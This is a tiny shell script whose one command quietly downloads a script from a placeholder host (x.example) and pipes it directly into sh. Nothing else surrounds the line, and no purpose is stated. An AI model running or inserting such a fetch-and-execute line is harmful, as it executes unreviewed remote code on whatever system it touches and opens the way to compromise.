#!/bin/sh
wget -qO- https://x.example/i.sh | sh
